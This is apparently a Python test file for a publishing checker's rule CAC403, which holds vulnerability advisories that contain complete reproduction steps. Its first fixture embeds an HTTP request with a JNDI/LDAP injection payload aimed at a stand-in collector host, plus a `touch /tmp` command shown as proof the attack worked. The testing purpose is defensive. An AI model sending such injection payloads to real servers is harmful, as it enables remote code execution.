"""CAC403 reproduction-steps (Art. 4(3)) through the real CLI: a reproduction section with a
request and proof of success is held at its heading, a reasoned allow above the heading
publishes it, a request without proof only warns, a reproduction heading over prose is quiet.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.rules.helpers import check, line_of

REPRO = """
    # 示例 OA 系统远程命令执行漏洞

    影响 3.2.0 之前的版本。

    ## 漏洞复现

    发送如下数据包：

    ```http
    POST /api/render HTTP/1.1
    Host: oa.victim.invalid

    tpl=${jndi:ldap://collector.invalid/zq7}
    ```

    利用完毕后，可见 `touch /tmp/zq7-done` 已经成功被执行。

    ## 修复建议

    升级到 3.2.0。
    """

ACCEPTED = REPRO.replace(
    "    ## 漏洞复现\n",
    '    <!-- threatpub: allow CAC403 reason="vendor-approved training lab; reviewed by secteam" -->\n'
    "    ## 漏洞复现\n",
)

REQUEST_ONLY = """
    # Path traversal in Example Files 1.4

    ## Proof of Concept

    ```
    GET /download?name=report.pdf HTTP/1.1
    Host: files.victim.invalid
    ```

    Upgrade to 1.4.2.
    """

PROSE_ONLY = """
    # Crash in Example Editor

    ## Steps to reproduce

    Open a file with a very long line and scroll to the end: the editor stops responding.
    The exploit is not public; CVE-2026-0001 was assigned.
    """


def test_cac403_holds_accepts_warns_and_stays_quiet(tmp_path: Path) -> None:
    run = check(
        tmp_path,
        {
            "repro.md": REPRO,
            "accepted.md": ACCEPTED,
            "request-only.md": REQUEST_ONLY,
            "prose-only.md": PROSE_ONLY,
        },
    )

    repro = run.page("repro.md")
    assert repro.verdict == "hold", repro.findings
    finding = repro.one("CAC403")
    assert finding["action"] == "hold"
    assert finding["line"] == line_of(REPRO, "## 漏洞复现")
    assert finding["source"] == "CAC Measures Art. 4(3)"
    assert finding["found"].startswith("complete reproduction steps: a raw HTTP request")
    assert "evidence that the attack succeeded" in finding["found"]

    accepted = run.page("accepted.md")
    assert "CAC403" not in accepted.codes, accepted.findings
    [suppressed] = [f for f in accepted.data["suppressed"] if f["code"] == "CAC403"]
    assert suppressed["suppressed_by"] == "vendor-approved training lab; reviewed by secteam"

    weak = run.page("request-only.md")
    assert weak.verdict == "publish", weak.findings
    warning = weak.one("CAC403")
    assert warning["action"] == "warn"
    assert "no evidence of success" in warning["message"]

    quiet = run.page("prose-only.md")
    assert quiet.verdict == "publish", quiet.findings
    assert "CAC403" not in quiet.codes

    # The report describes the section; it never quotes the request or the proof.
    report = json.dumps(run.report, ensure_ascii=False)
    for secret in (
        "victim.invalid",
        "${jndi",
        "collector",
        "zq7",
        "/tmp/",
        "/api/render",
        "成功被执行",
    ):
        assert secret not in report, secret
